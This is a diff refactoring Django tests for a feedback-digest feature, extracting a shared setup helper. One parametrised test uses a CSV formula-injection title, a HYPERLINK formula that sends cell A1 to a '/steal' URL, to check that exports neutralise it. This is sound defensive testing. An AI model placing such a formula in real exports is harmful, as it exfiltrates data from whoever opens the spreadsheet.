@@ -143,19 +143,24 @@ def test_the_archive_and_its_exports_are_for_the_team_only(
     assert client.get(f"/feedback/digests/{digest.pk}/?format=json").status_code == 403
 
 
+def _digest_of_yesterday(question, seconder, capture_on_commit) -> Digest:
+    """The digest beat builds when ``question`` became feedback yesterday, seconded once."""
+    toggle_me_too(question, user=seconder)
+    yesterday = timezone.now() - timedelta(days=1)
+    FeedbackItem.objects.filter(question=question).update(created_at=yesterday)
+    question.me_toos.update(created_at=yesterday)
+    with capture_on_commit(execute=True):
+        run_digests()
+    return Digest.objects.get()
+
+
 @pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])  # OWASP's formula starts
 def test_the_digest_csv_neutralises_titles_that_start_a_formula(
     client, team, question_factory, user_factory, django_capture_on_commit_callbacks, prefix
 ):
     title = f'{prefix}HYPERLINK("http://127.0.0.1/steal?"&A1,"Click me") card payments'
     question = question_factory(title=title, tags=["feature-request", "invoices"])
-    toggle_me_too(question, user=user_factory())
-    yesterday = timezone.now() - timedelta(days=1)
-    FeedbackItem.objects.filter(question=question).update(created_at=yesterday)
-    question.me_toos.update(created_at=yesterday)
-    with django_capture_on_commit_callbacks(execute=True):
-        run_digests()
-    digest = Digest.objects.get()
+    digest = _digest_of_yesterday(question, user_factory(), django_capture_on_commit_callbacks)
     client.force_login(team.members.get())
     exported = client.get(f"/feedback/digests/{digest.pk}/?format=csv").content.decode()
     rows = list(csv.reader(io.StringIO(exported, newline="")))
@@ -174,13 +179,7 @@ def test_redacting_a_thread_scrubs_the_digests_built_before(
         title="Let me pay invoices by card", tags=["feature-request", "invoices"],
         body=f"We need card payments every month; write to {secret} for our volumes.",
     )  # fmt: skip
-    toggle_me_too(question, user=user_factory())
-    yesterday = timezone.now() - timedelta(days=1)
-    FeedbackItem.objects.filter(question=question).update(created_at=yesterday)
-    question.me_toos.update(created_at=yesterday)
-    with django_capture_on_commit_callbacks(execute=True):
-        run_digests()
-    digest = Digest.objects.get()
+    digest = _digest_of_yesterday(question, user_factory(), django_capture_on_commit_callbacks)
     assert secret in json.dumps(digest.content)  # quoted from the body
     client.force_login(advocate)
     response = client.post(f"/questions/{question.pk}/redact/", {"text": secret, "reason": "personal data"})
